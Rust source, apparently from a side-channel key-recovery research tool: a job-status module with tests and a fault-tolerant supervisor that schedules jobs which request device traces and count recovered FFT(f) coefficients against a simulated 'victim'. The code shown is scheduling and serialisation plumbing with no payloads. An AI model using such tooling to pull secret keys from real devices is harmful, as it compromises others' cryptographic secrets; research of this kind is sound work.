            0 => JobState::Queued,
            1 => JobState::Running,
            2 => JobState::Paused,
            3 => JobState::Degraded,
            4 => JobState::Done,
            5 => JobState::Failed,
            6 => JobState::Cancelled,
            _ => return None,
        })
    }

    /// Lower-case wire name (`"queued"`, `"running"`, …).
    pub fn as_str(self) -> &'static str {
        match self {
            JobState::Queued => "queued",
            JobState::Running => "running",
            JobState::Paused => "paused",
            JobState::Degraded => "degraded",
            JobState::Done => "done",
            JobState::Failed => "failed",
            JobState::Cancelled => "cancelled",
        }
    }

    /// Parses a wire name.
    pub fn from_str_name(s: &str) -> Option<JobState> {
        Some(match s {
            "queued" => JobState::Queued,
            "running" => JobState::Running,
            "paused" => JobState::Paused,
            "degraded" => JobState::Degraded,
            "done" => JobState::Done,
            "failed" => JobState::Failed,
            "cancelled" => JobState::Cancelled,
            _ => return None,
        })
    }

    /// Whether the job can never run again.
    pub fn is_terminal(self) -> bool {
        matches!(self, JobState::Done | JobState::Failed | JobState::Cancelled)
    }
}

/// The evolving, persisted status of one job.
#[derive(Debug, Clone, PartialEq)]
pub struct JobStatus {
    /// Lifecycle state.
    pub state: JobState,
    /// Faults absorbed so far (panics, typed step errors, deadline
    /// overruns).
    pub retries: u32,
    /// Supervision slices completed.
    pub slices: u64,
    /// Captures requested from the device so far.
    pub traces_requested: u64,
    /// Converged coefficients so far.
    pub recovered: u64,
    /// Ring degree (denominator for `recovered`).
    pub n: u64,
    /// Accumulated worker runtime, in milliseconds (feeds the job
    /// deadline across restarts).
    pub runtime_ms: u64,
    /// Human-readable reason for the last retry/degrade/fail, if any.
    pub last_error: String,
    /// Recovered `FFT(f)` bits; non-empty only once [`JobState::Done`].
    pub bits: Vec<u64>,
}

impl JobStatus {
    /// A fresh queued status for a job of ring degree `n`.
    pub fn queued(n: usize) -> JobStatus {
        JobStatus {
            state: JobState::Queued,
            retries: 0,
            slices: 0,
            traces_requested: 0,
            recovered: 0,
            n: n as u64,
            runtime_ms: 0,
            last_error: String::new(),
            bits: Vec::new(),
        }
    }

    /// Serialises the status.
    ///
    /// # Errors
    ///
    /// Propagates writer errors.
    pub fn write<W: Write>(&self, mut w: W) -> Result<()> {
        w.write_all(STATE_MAGIC)?;
        w.write_all(&[STATE_VERSION])?;
        w.write_all(&[self.state.tag()])?;
        for v in [
            u64::from(self.retries),
            self.slices,
            self.traces_requested,
            self.recovered,
            self.n,
            self.runtime_ms,
        ] {
            w.write_all(&v.to_le_bytes())?;
        }
        write_str(&mut w, &self.last_error)?;
        write_u64_list(&mut w, &self.bits)?;
        Ok(())
    }

    /// Deserialises a status written by [`JobStatus::write`].
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidData`] / [`Error::UnsupportedVersion`] on
    /// malformed input, [`Error::Io`] on truncation.
    pub fn read<R: Read>(mut r: R) -> Result<JobStatus> {
        read_magic(&mut r, STATE_MAGIC, STATE_VERSION)?;
        let mut tag = [0u8; 1];
        r.read_exact(&mut tag)?;
        let state = JobState::from_tag(tag[0]).ok_or_else(|| io::bad("malformed job state"))?;
        let retries =
            u32::try_from(io::read_u64(&mut r)?).map_err(|_| io::bad("implausible retry count"))?;
        let slices = io::read_u64(&mut r)?;
        let traces_requested = io::read_u64(&mut r)?;
        let recovered = io::read_u64(&mut r)?;
        let n = io::read_u64(&mut r)?;
        if n > 1 << 10 || recovered > n {
            return Err(io::bad("implausible job dimensions"));
        }
        let runtime_ms = io::read_u64(&mut r)?;
        let last_error = read_str(&mut r, 4096, "error message")?;
        let bits = read_u64_list(&mut r, "recovered bits")?;
        if !bits.is_empty() && bits.len() as u64 != n {
            return Err(io::bad("recovered-bit count does not match the ring degree"));
        }
        Ok(JobStatus {
            state,
            retries,
            slices,
            traces_requested,
            recovered,
            n,
            runtime_ms,
            last_error,
            bits,
        })
    }
}

/// Reads and checks a magic/version preamble, accepting any version in
/// `1..=max_version` and returning the version found (callers branch on
/// it for back-compat fields).
fn read_magic<R: Read>(r: &mut R, magic: &[u8; 7], max_version: u8) -> Result<u8> {
    let mut head = [0u8; 8];
    r.read_exact(&mut head)?;
    if &head[..7] != magic {
        return Err(io::bad("bad magic for an orchestrator record"));
    }
    if head[7] == 0 || head[7] > max_version {
        return Err(Error::UnsupportedVersion {
            found: u32::from(head[7]),
            supported: u32::from(max_version),
        });
    }
    Ok(head[7])
}

fn write_str<W: Write>(w: &mut W, s: &str) -> Result<()> {
    w.write_all(&(s.len() as u64).to_le_bytes())?;
    w.write_all(s.as_bytes())?;
    Ok(())
}

fn read_str<R: Read>(r: &mut R, max: usize, what: &str) -> Result<String> {
    let len = io::checked_count(io::read_u64(r)?, what)?;
    if len > max {
        return Err(io::bad(&format!("{what} longer than {max} bytes")));
    }
    let mut buf = vec![0u8; len];
    r.read_exact(&mut buf)?;
    String::from_utf8(buf).map_err(|_| io::bad(&format!("{what} is not valid UTF-8")))
}

fn write_u64_list<W: Write>(w: &mut W, vals: &[u64]) -> Result<()> {
    w.write_all(&(vals.len() as u64).to_le_bytes())?;
    for &v in vals {
        w.write_all(&v.to_le_bytes())?;
    }
    Ok(())
}

fn read_u64_list<R: Read>(r: &mut R, what: &str) -> Result<Vec<u64>> {
    let count = io::checked_count(io::read_u64(r)?, what)?;
    if count > 1 << 20 {
        return Err(io::bad(&format!("{what} is implausibly long")));
    }
    let mut out = Vec::with_capacity(count.min(1 << 12));
    for _ in 0..count {
        out.push(io::read_u64(r)?);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec() -> JobSpec {
        JobSpec {
            name: "torture-a".into(),
            seed: "torture seed a".into(),
            panic_steps: vec![2, 5],
            stall_steps: vec![3],
            stall_ms: 40,
            step_deadline_ms: 20,
            job_deadline_ms: 60_000,
            ..Default::default()
        }
    }

    #[test]
    fn spec_roundtrips_and_rejects_truncation() {
        let s = spec();
        let mut buf = Vec::new();
        s.write(&mut buf).unwrap();
        assert_eq!(JobSpec::read(&buf[..]).unwrap(), s);
        for cut in 0..buf.len() {
            assert!(JobSpec::read(&buf[..cut]).is_err(), "cut at {cut} must fail");
        }
        let mut future = buf.clone();
        future[7] = 9;
        assert!(matches!(
            JobSpec::read(&future[..]),
            Err(Error::UnsupportedVersion { found: 9, .. })
        ));
    }

    #[test]
    fn status_roundtrips_and_rejects_truncation() {
        let mut st = JobStatus::queued(8);
        st.state = JobState::Done;
        st.retries = 3;
        st.slices = 11;
        st.traces_requested = 660;
        st.recovered = 8;
        st.runtime_ms = 1234;
        st.last_error = "worker panicked on chunk 3".into();
        st.bits = vec![1, 2, 3, 4, 5, 6, 7, 8];
        let mut buf = Vec::new();
        st.write(&mut buf).unwrap();
        assert_eq!(JobStatus::read(&buf[..]).unwrap(), st);
        for cut in 0..buf.len() {
            assert!(JobStatus::read(&buf[..cut]).is_err(), "cut at {cut} must fail");
        }
    }

    #[test]
    fn streamed_spec_roundtrips_and_validates_ring() {
        let s = JobSpec {
            dataset: "/data/capture.fdnd".into(),
            ring_chunk_bytes: 4096,
            ring_depth: 3,
            ..spec()
        };
        let mut buf = Vec::new();
        s.write(&mut buf).unwrap();
        assert_eq!(JobSpec::read(&buf[..]).unwrap(), s);
        assert!(s.is_streamed());
        assert_eq!(s.ring_config().chunk_bytes, 4096);
        // Zero ring fields fall back to defaults…
        let d = JobSpec { dataset: "x.fdnd".into(), ..spec() };
        assert_eq!(d.ring_config(), crate::stream::RingConfig::default());
        // …misaligned chunks are rejected…
        let bad = JobSpec { dataset: "x.fdnd".into(), ring_chunk_bytes: 1001, ..spec() };
        assert!(bad.validate().is_err());
        // …and ring knobs without a dataset are meaningless.
        let orphan = JobSpec { ring_depth: 4, ..spec() };
        assert!(orphan.validate().is_err());
    }

    #[test]
    fn v1_specs_still_read_as_simulated_jobs() {
        // A byte-exact v1 stream (the pre-streaming writer layout).
        let s = spec();
        let mut buf = Vec::new();
        buf.extend_from_slice(SPEC_MAGIC);
        buf.push(1);
        write_str(&mut buf, &s.name).unwrap();
        buf.extend_from_slice(&u64::from(s.logn).to_le_bytes());
        buf.extend_from_slice(&s.noise_sigma.to_le_bytes());
        write_str(&mut buf, &s.seed).unwrap();
        for v in [
            s.batch_size as u64,
            s.max_traces as u64,
            u64::from(s.steps_per_slice),
            u64::from(s.max_retries),
            s.step_deadline_ms,
            s.job_deadline_ms,
            s.backoff_base_ms,
            s.backoff_cap_ms,
        ] {
            buf.extend_from_slice(&v.to_le_bytes());
        }
        write_u64_list(&mut buf, &s.panic_steps).unwrap();
        write_u64_list(&mut buf, &s.stall_steps).unwrap();
        buf.extend_from_slice(&s.stall_ms.to_le_bytes());
        let read = JobSpec::read(&buf[..]).unwrap();
        assert_eq!(read, s);
        assert!(!read.is_streamed());
    }

    #[test]
    fn bad_names_and_degenerate_specs_are_rejected() {
        assert!(valid_name("job-a_1"));
        assert!(!valid_name(""));
        assert!(!valid_name("No Caps"));
        assert!(!valid_name("dots.not.ok"));
        assert!(!valid_name(&"x".repeat(65)));
        let mut s = spec();
        s.name = "UPPER".into();
        assert!(s.validate().is_err());
        let mut s = spec();
        s.batch_size = 0;
        assert!(s.validate().is_err());
        let mut s = spec();
        s.logn = 99;
        assert!(s.validate().is_err());
        let mut s = spec();
        s.noise_sigma = f64::NAN;
        assert!(s.validate().is_err());
    }

    #[test]
    fn state_tags_and_names_roundtrip() {
        for st in [
            JobState::Queued,
            JobState::Running,
            JobState::Paused,
            JobState::Degraded,
            JobState::Done,
            JobState::Failed,
            JobState::Cancelled,
        ] {
            assert_eq!(JobState::from_tag(st.tag()), Some(st));
            assert_eq!(JobState::from_str_name(st.as_str()), Some(st));
        }
        assert_eq!(JobState::from_tag(99), None);
        assert!(JobState::Done.is_terminal() && !JobState::Degraded.is_terminal());
    }

    #[test]
    fn victim_construction_is_deterministic() {
        let s = spec();
        let a = s.build_victim().unwrap();
        let b = s.build_victim().unwrap();
        assert_eq!(a.truth, b.truth);
        assert_eq!(a.truth.len(), s.n());
    }
}
