//! The fault-tolerant job supervisor: panic-isolated worker pool,
//! seeded retry backoff, cooperative deadlines, and a load-shedding
//! concurrency governor.
//!
//! # Supervision model
//!
//! A fixed pool of worker threads pulls queued jobs off a shared
//! scheduler and advances each claimed job one *turn* (a bounded run of
//! supervision slices, for fairness) at a time, checkpointing after
//! every slice. Each slice runs under `catch_unwind`, so a panic — a
//! bug, or an injected fault — is caught, converted to the typed
//! [`Error::WorkerPanicked`], and absorbed by the retry machinery
//! instead of taking down the worker, its sibling jobs, or the process.
//! Because the slice's in-memory runtime is discarded on any fault and
//! rebuilt from the last durable checkpoint, a retry rolls the job back
//! to a known-good state: the retried run replays the exact acquisition
//! stream the faulted one would have produced.
//!
//! Faults (panics, typed step errors, deadline overruns) consume a
//! per-job retry budget. While budget remains, the job is re-queued
//! after a deterministic seeded exponential backoff
//! ([`Backoff`]) — no `rand`, no wall-clock entropy, so a restarted
//! orchestrator replays the same schedule. A job that exhausts its
//! budget, its trace budget, or its whole-job deadline is parked as
//! [`JobState::Degraded`] with all partial per-coefficient progress
//! preserved in its checkpoint; an operator `resume` re-arms it.
//!
//! # Deadlines
//!
//! Deadlines are *cooperative*: safe Rust cannot kill a wedged thread,
//! so the per-slice deadline is enforced at slice boundaries (a slice
//! that ran over faults as a deadline overrun) while a monotonic-clock
//! watchdog thread observes in-flight slices, flags overdue ones and
//! emits `orch.deadline` events the moment the limit passes — the
//! overrun is visible in the event stream even while the slice is
//! still stuck. The wall-clock reads live here, in the supervision
//! layer, under explicit `ct: allow` annotations: they time *workers*,
//! never the modelled leakage, which stays bit-reproducible.
//!
//! # Load shedding
//!
//! [`Supervisor::set_max_running`] is the global concurrency governor.
//! Lowering it below the number of in-flight jobs sheds load by pausing
//! the **newest** jobs first (oldest jobs are closest to convergence
//! and have absorbed the most work), each parked at its next slice
//! boundary with its checkpoint intact.
//!
//! # Single-writer invariant
//!
//! While a job is claimed (present in the running set), only its worker
//! writes its status record. Control operations on running jobs go
//! through request flags the worker honours at the next slice boundary;
//! control operations on parked jobs write the status directly under
//! the scheduler lock. This keeps every status transition both atomic
//! on disk and race-free in memory.

use crate::error::{Error, Result};
use crate::obs;
use crate::orch::backoff::{seed_from_name, Backoff};
use crate::orch::job::{JobSpec, JobState, JobStatus};
use crate::orch::runner::{FaultInjector, JobRuntime};
use crate::orch::store::JobStore;
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Tuning knobs for a [`Supervisor`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SupervisorConfig {
    /// Worker threads in the pool.
    pub workers: usize,
    /// Initial concurrency limit (see [`Supervisor::set_max_running`]).
    pub max_running: usize,
    /// Watchdog tick, in milliseconds.
    pub watchdog_interval_ms: u64,
    /// Consecutive slices a worker runs on one job before re-queueing
    /// it (fairness between jobs when workers are scarce).
    pub slices_per_turn: u32,
}

impl Default for SupervisorConfig {
    fn default() -> Self {
        SupervisorConfig {
            workers: 2,
            max_running: 2,
            watchdog_interval_ms: 10,
            slices_per_turn: 4,
        }
    }
}

/// Bookkeeping for one in-flight job.
#[derive(Debug)]
struct RunInfo {
    /// When the current slice started (reset at every slice boundary).
    started: Instant,
    /// The job's per-slice deadline (0 = none), cached for the watchdog.
    step_deadline_ms: u64,
    /// Set by the watchdog when the in-flight slice runs over.
    overdue: bool,
}

/// The shared scheduler state, guarded by one mutex.
#[derive(Debug, Default)]
struct Sched {
    /// Jobs ready to claim, in FIFO order.
    runnable: VecDeque<String>,
    /// Jobs waiting out a retry backoff: `(ready_at, name)`.
    delayed: Vec<(Instant, String)>,
    /// Claimed jobs, keyed by name.
    running: BTreeMap<String, RunInfo>,
    /// Admission order (oldest first); the governor sheds from the back.
    order: Vec<String>,
    /// Pause requests for running jobs, honoured at slice boundaries.
    pause_req: BTreeSet<String>,
    /// Cancel requests for running jobs, honoured at slice boundaries.
    cancel_req: BTreeSet<String>,
    /// Concurrency limit.
    max_running: usize,
    /// Set once by [`Supervisor::drain`]; workers exit at boundaries.
    shutdown: bool,
}

struct Shared {
    store: JobStore,
    sched: Mutex<Sched>,
    cv: Condvar,
    /// Per-job fault-injection memory, held across turns so an injected
    /// fault fires exactly once per process.
    injectors: Mutex<BTreeMap<String, FaultInjector>>,
}

impl Shared {
    fn lock(&self) -> MutexGuard<'_, Sched> {
        // A worker can only poison this lock by panicking in scheduler
        // bookkeeping (slices themselves run unlocked under
        // catch_unwind); recover the guard rather than cascading.
        self.sched.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

/// What to do with a job's scheduler slot when its turn ends.
enum After {
    /// Leave it unscheduled (done, failed, parked, drained).
    Drop,
    /// Put it straight back on the runnable queue (fairness re-queue).
    Requeue,
    /// Re-queue it after a backoff delay, in milliseconds.
    Delay(u64),
}

/// A running supervisor: worker pool plus watchdog over one [`JobStore`].
///
/// All control methods take `&self`, so a supervisor can be shared
/// behind an `Arc` by a serving layer (each RPC connection handler gets
/// its own handle); [`Supervisor::drain`] is idempotent.
pub struct Supervisor {
    shared: Arc<Shared>,
    workers: Mutex<Vec<JoinHandle<()>>>,
    watchdog: Mutex<Option<JoinHandle<()>>>,
}

impl Supervisor {
    /// Recovers the store (adopting any crash orphans), re-queues every
    /// queued job, and starts the worker pool and watchdog.
    ///
    /// # Errors
    ///
    /// Propagates store recovery and scan errors.
    pub fn start(store: JobStore, cfg: SupervisorConfig) -> Result<Supervisor> {
        store.recover()?;
        let mut sched = Sched { max_running: cfg.max_running, ..Sched::default() };
        for name in store.jobs()? {
            let st = store.read_status(&name)?;
            if st.state.is_terminal() {
                continue;
            }
            sched.order.push(name.clone());
            if st.state == JobState::Queued {
                sched.runnable.push_back(name);
            }
        }
        let shared = Arc::new(Shared {
            store,
            sched: Mutex::new(sched),
            cv: Condvar::new(),
            injectors: Mutex::new(BTreeMap::new()),
        });
        let workers = (0..cfg.workers.max(1))
            .map(|i| {
                let shared = Arc::clone(&shared);
                std::thread::Builder::new()
                    .name(format!("orch-worker-{i}"))
                    .spawn(move || worker_loop(&shared, cfg))
                    .expect("spawn orchestrator worker")
            })
            .collect();
        let watchdog = {
            let shared = Arc::clone(&shared);
            std::thread::Builder::new()
                .name("orch-watchdog".into())
                .spawn(move || watchdog_loop(&shared, cfg))
                .expect("spawn orchestrator watchdog")
        };
        Ok(Supervisor {
            shared,
            workers: Mutex::new(workers),
            watchdog: Mutex::new(Some(watchdog)),
        })
    }

    /// The underlying job store.
    pub fn store(&self) -> &JobStore {
        &self.shared.store
    }

    /// Submits a new job and schedules it.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for an invalid spec or duplicate
    /// name, [`Error::Persist`] on a failed durable write.
    pub fn submit(&self, spec: &JobSpec) -> Result<()> {
        self.shared.store.submit(spec)?;
        let mut s = self.shared.lock();
        s.order.push(spec.name.clone());
        s.runnable.push_back(spec.name.clone());
        drop(s);
        self.shared.cv.notify_all();
        let (name, traces) = (spec.name.clone(), spec.max_traces as u64);
        let logn = u64::from(spec.logn);
        obs::emit(move || {
            obs::Event::new("orch.submit")
                .with_str("job", name.clone())
                .with_u64("logn", logn)
                .with_u64("max_traces", traces)
        });
        Ok(())
    }

    /// A job's current persisted status.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for an unknown job.
    pub fn status(&self, name: &str) -> Result<JobStatus> {
        self.shared.store.read_status(name)
    }

    /// All known job names, sorted.
    ///
    /// # Errors
    ///
    /// Propagates store scan errors.
    pub fn jobs(&self) -> Result<Vec<String>> {
        self.shared.store.jobs()
    }

    /// Pauses a job: a queued job parks immediately, a running one at
    /// its next slice boundary. Its checkpoint is preserved.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for unknown or terminal jobs.
    pub fn pause(&self, name: &str) -> Result<()> {
        let mut st = self.shared.store.read_status(name)?;
        if st.state.is_terminal() {
            return Err(Error::Orchestration(format!(
                "cannot pause job {name:?}: already {}",
                st.state.as_str()
            )));
        }
        let mut s = self.shared.lock();
        if s.running.contains_key(name) {
            s.pause_req.insert(name.to_string());
        } else if st.state == JobState::Queued {
            s.runnable.retain(|n| n != name);
            s.delayed.retain(|(_, n)| n != name);
            st.state = JobState::Paused;
            self.shared.store.write_status(name, &st)?;
            let n = name.to_string();
            obs::emit(move || obs::Event::new("orch.paused").with_str("job", n.clone()));
        }
        Ok(())
    }

    /// Resumes a paused or degraded job: resets its retry budget and
    /// re-queues it from its checkpoint. On a queued/running job it just
    /// clears any pending pause request.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for unknown or terminal jobs.
    pub fn resume(&self, name: &str) -> Result<()> {
        let mut st = self.shared.store.read_status(name)?;
        if st.state.is_terminal() {
            return Err(Error::Orchestration(format!(
                "cannot resume job {name:?}: already {}",
                st.state.as_str()
            )));
        }
        let mut s = self.shared.lock();
        s.pause_req.remove(name);
        if matches!(st.state, JobState::Paused | JobState::Degraded) {
            st.state = JobState::Queued;
            st.retries = 0;
            self.shared.store.write_status(name, &st)?;
            if !s.order.iter().any(|n| n == name) {
                s.order.push(name.to_string());
            }
            s.runnable.push_back(name.to_string());
            drop(s);
            self.shared.cv.notify_all();
            let n = name.to_string();
            obs::emit(move || obs::Event::new("orch.resumed").with_str("job", n.clone()));
        }
        Ok(())
    }

    /// Cancels a job. Parked jobs cancel immediately, running ones at
    /// the next slice boundary; the checkpoint is retained either way.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for unknown or terminal jobs.
    pub fn cancel(&self, name: &str) -> Result<()> {
        let mut st = self.shared.store.read_status(name)?;
        if st.state.is_terminal() {
            return Err(Error::Orchestration(format!(
                "cannot cancel job {name:?}: already {}",
                st.state.as_str()
            )));
        }
        let mut s = self.shared.lock();
        if s.running.contains_key(name) {
            s.cancel_req.insert(name.to_string());
        } else {
            s.runnable.retain(|n| n != name);
            s.delayed.retain(|(_, n)| n != name);
            s.pause_req.remove(name);
            st.state = JobState::Cancelled;
            self.shared.store.write_status(name, &st)?;
            obs::metrics().counter("orch.cancelled").incr();
            let n = name.to_string();
            obs::emit(move || obs::Event::new("orch.cancelled").with_str("job", n.clone()));
        }
        Ok(())
    }

    /// The global concurrency governor. Raising the limit lets waiting
    /// jobs claim slots; lowering it below the in-flight count sheds
    /// load by pausing the newest running jobs first.
    pub fn set_max_running(&self, limit: usize) {
        let mut s = self.shared.lock();
        s.max_running = limit;
        if s.running.len() > limit {
            let excess = s.running.len() - limit;
            let victims: Vec<String> = s
                .order
                .iter()
                .rev()
                .filter(|n| s.running.contains_key(*n) && !s.pause_req.contains(*n))
                .take(excess)
                .cloned()
                .collect();
            for v in victims {
                obs::metrics().counter("orch.shed").incr();
                let n = v.clone();
                obs::emit(move || obs::Event::new("orch.shed").with_str("job", n.clone()));
                s.pause_req.insert(v);
            }
        }
        drop(s);
        self.shared.cv.notify_all();
    }

    /// Polls a job's persisted status until `pred` accepts it.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] on timeout or an unknown job.
    pub fn wait_until(
        &self,
        name: &str,
        timeout_ms: u64,
        pred: impl Fn(&JobStatus) -> bool,
    ) -> Result<JobStatus> {
        // ct: allow(operator/test polling helper; times workers, not modelled leakage)
        let deadline = Instant::now() + Duration::from_millis(timeout_ms);
        loop {
            let st = self.status(name)?;
            if pred(&st) {
                return Ok(st);
            }
            // ct: allow(operator/test polling helper; times workers, not modelled leakage)
            if Instant::now() >= deadline {
                return Err(Error::Orchestration(format!(
                    "timed out after {timeout_ms}ms waiting on job {name:?} (state {})",
                    st.state.as_str()
                )));
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    }

    /// Waits until a job settles: done, failed, cancelled, or degraded.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] on timeout or an unknown job.
    pub fn wait_settled(&self, name: &str, timeout_ms: u64) -> Result<JobStatus> {
        self.wait_until(name, timeout_ms, |st| {
            st.state.is_terminal() || st.state == JobState::Degraded
        })
    }

    /// Graceful shutdown: workers finish their current slice, checkpoint
    /// and park their jobs back to `queued` (a restarted supervisor
    /// re-adopts them), then the pool and watchdog join. Idempotent.
    pub fn drain(&self) {
        self.shared.lock().shutdown = true;
        self.shared.cv.notify_all();
        let workers: Vec<JoinHandle<()>> = std::mem::take(
            &mut *self.workers.lock().unwrap_or_else(std::sync::PoisonError::into_inner),
        );
        if workers.is_empty() {
            return;
        }
        for h in workers {
            let _ = h.join();
        }
        let dog = self.watchdog.lock().unwrap_or_else(std::sync::PoisonError::into_inner).take();
        if let Some(h) = dog {
            let _ = h.join();
        }
        obs::emit(|| obs::Event::new("orch.drain"));
    }
}

impl Drop for Supervisor {
    fn drop(&mut self) {
        self.drain();
    }
}

/// Moves every due delayed job onto the runnable queue.
fn promote_due(s: &mut Sched) -> usize {
    // ct: allow(retry-backoff release check; times workers, not modelled leakage)
    let now = Instant::now();
    let mut moved = 0;
    let mut i = 0;
    while i < s.delayed.len() {
        if s.delayed[i].0 <= now {
            let (_, name) = s.delayed.swap_remove(i);
            s.runnable.push_back(name);
            moved += 1;
        } else {
            i += 1;
        }
    }
    moved
}

/// Claims the next runnable job if a slot is free.
fn try_claim(s: &mut Sched) -> Option<String> {
    if s.shutdown || s.running.len() >= s.max_running {
        return None;
    }
    let name = s.runnable.pop_front()?;
    // ct: allow(slice stopwatch start; times workers, not modelled leakage)
    let started = Instant::now();
    s.running.insert(name.clone(), RunInfo { started, step_deadline_ms: 0, overdue: false });
    Some(name)
}

fn worker_loop(shared: &Shared, cfg: SupervisorConfig) {
    let tick = Duration::from_millis(cfg.watchdog_interval_ms.max(1));
    loop {
        let claimed = {
            let mut s = shared.lock();
            loop {
                if s.shutdown {
                    return;
                }
                promote_due(&mut s);
                if let Some(name) = try_claim(&mut s) {
                    break name;
                }
                let (guard, _) = shared
                    .cv
                    .wait_timeout(s, tick)
                    .unwrap_or_else(std::sync::PoisonError::into_inner);
                s = guard;
            }
        };
        run_turn(shared, cfg, &claimed);
    }
}

/// Runs one turn of a claimed job, then releases its scheduler slot
/// exactly once — whatever happened inside the turn.
fn run_turn(shared: &Shared, cfg: SupervisorConfig, name: &str) {
    let after = match run_turn_inner(shared, cfg, name) {
        Ok(after) => after,
        Err(e) => {
            // A turn-level error (unreadable record, failed durable
            // status write) is non-retryable: quarantine the job rather
            // than looping on it.
            let msg = e.to_string();
            if let Ok(mut st) = shared.store.read_status(name) {
                if !st.state.is_terminal() {
                    st.state = JobState::Failed;
                    st.last_error = msg.clone();
                    let _ = shared.store.write_status(name, &st);
                }
            }
            obs::metrics().counter("orch.failed").incr();
            let n = name.to_string();
            obs::emit(move || {
                obs::Event::new("orch.failed")
                    .with_str("job", n.clone())
                    .with_str("error", msg.clone())
            });
            After::Drop
        }
    };
    let mut s = shared.lock();
    s.running.remove(name);
    match after {
        After::Drop => {}
        After::Requeue => s.runnable.push_back(name.to_string()),
        After::Delay(ms) => {
            // ct: allow(retry-backoff release schedule; times workers, not modelled leakage)
            let ready = Instant::now() + Duration::from_millis(ms);
            s.delayed.push((ready, name.to_string()));
        }
    }
    drop(s);
    shared.cv.notify_all();
}

fn run_turn_inner(shared: &Shared, cfg: SupervisorConfig, name: &str) -> Result<After> {
    let spec = shared.store.read_spec(name)?;
    let mut status = shared.store.read_status(name)?;
    if status.state.is_terminal() {
        return Ok(After::Drop);
    }
    status.state = JobState::Running;
    shared.store.write_status(name, &status)?;

    let store = &shared.store;
    let mut rt = match catch_unwind(AssertUnwindSafe(|| JobRuntime::prepare(&spec, store))) {
        Ok(Ok(rt)) => rt,
        Ok(Err(e)) => return Err(Error::Orchestration(format!("prepare failed: {e}"))),
        Err(p) => {
            return Err(Error::Orchestration(format!("prepare panicked: {}", payload_str(&p))))
        }
    };
    let mut injector = shared
        .injectors
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .remove(name)
        .unwrap_or_default();
    let after = drive_slices(shared, cfg, &spec, &mut status, &mut rt, &mut injector);
    shared
        .injectors
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .insert(name.to_string(), injector);
    after
}

fn drive_slices(
    shared: &Shared,
    cfg: SupervisorConfig,
    spec: &JobSpec,
    status: &mut JobStatus,
    rt: &mut JobRuntime,
    injector: &mut FaultInjector,
) -> Result<After> {
    let name = &spec.name;
    for _ in 0..cfg.slices_per_turn.max(1) {
        if let Some(park) = boundary_park(shared, spec) {
            let _ = rt.checkpoint(&shared.store);
            status.state = park;
            shared.store.write_status(name, status)?;
            if park == JobState::Cancelled {
                obs::metrics().counter("orch.cancelled").incr();
            }
            let (n, state) = (name.clone(), park.as_str());
            obs::emit(move || {
                obs::Event::new("orch.park")
                    .with_str("job", n.clone())
                    .with_str("state", state.to_string())
            });
            return Ok(After::Drop);
        }
        // ct: allow(slice stopwatch; times workers, not modelled leakage)
        let t0 = Instant::now();
        let res = catch_unwind(AssertUnwindSafe(|| rt.slice(injector)));
        // ct: allow(slice stopwatch; times workers, not modelled leakage)
        let ms = t0.elapsed().as_millis() as u64;
        status.runtime_ms += ms;
        let out = match res {
            Err(p) => {
                return fault(
                    shared,
                    spec,
                    status,
                    &Error::WorkerPanicked {
                        chunk: status.slices as usize,
                        payload: payload_str(&p),
                    },
                )
            }
            Ok(Err(e)) => return fault(shared, spec, status, &e),
            Ok(Ok(out)) => out,
        };
        // A failed durable checkpoint is retryable: the job rolls back
        // to the previous checkpoint and backs off.
        if let Err(e) = rt.checkpoint(&shared.store) {
            return fault(shared, spec, status, &e);
        }
        status.slices += 1;
        status.traces_requested = out.traces_requested as u64;
        status.recovered = out.recovered as u64;
        let (n, traces, rec) = (name.clone(), status.traces_requested, status.recovered);
        obs::emit(move || {
            obs::Event::new("orch.slice")
                .with_str("job", n.clone())
                .with_u64("traces_requested", traces)
                .with_u64("recovered", rec)
                .with_u64("ms", ms)
        });
        let overdue = {
            let mut s = shared.lock();
            s.running.get_mut(name).map(|i| std::mem::take(&mut i.overdue)).unwrap_or(false)
        };
        if spec.step_deadline_ms > 0 && (overdue || ms > spec.step_deadline_ms) {
            return fault(
                shared,
                spec,
                status,
                &Error::Orchestration(format!(
                    "step deadline overrun: slice took {ms}ms (limit {}ms)",
                    spec.step_deadline_ms
                )),
            );
        }
        if out.done {
            if out.complete {
                status.state = JobState::Done;
                status.bits = rt.report().recovered_bits().unwrap_or_default();
                shared.store.write_status(name, status)?;
                obs::metrics().counter("orch.done").incr();
                let (n, traces) = (name.clone(), status.traces_requested);
                let (slices, retries) = (status.slices, u64::from(status.retries));
                obs::emit(move || {
                    obs::Event::new("orch.done")
                        .with_str("job", n.clone())
                        .with_u64("traces_requested", traces)
                        .with_u64("slices", slices)
                        .with_u64("retries", retries)
                });
                return Ok(After::Drop);
            }
            return degrade(shared, name, status, "trace budget exhausted before convergence");
        }
        if spec.job_deadline_ms > 0 && status.runtime_ms > spec.job_deadline_ms {
            return degrade(
                shared,
                name,
                status,
                &format!(
                    "job deadline exceeded: {}ms run (limit {}ms)",
                    status.runtime_ms, spec.job_deadline_ms
                ),
            );
        }
    }
    // Turn over with work remaining: persist and re-queue (fairness).
    status.state = JobState::Queued;
    shared.store.write_status(name, status)?;
    Ok(After::Requeue)
}

/// Checks the control flags at a slice boundary. Returns the state to
/// park in, or `None` to continue (also restarting the slice stopwatch
/// the watchdog reads).
fn boundary_park(shared: &Shared, spec: &JobSpec) -> Option<JobState> {
    let mut s = shared.lock();
    if s.shutdown {
        return Some(JobState::Queued);
    }
    if s.cancel_req.remove(&spec.name) {
        return Some(JobState::Cancelled);
    }
    if s.pause_req.remove(&spec.name) {
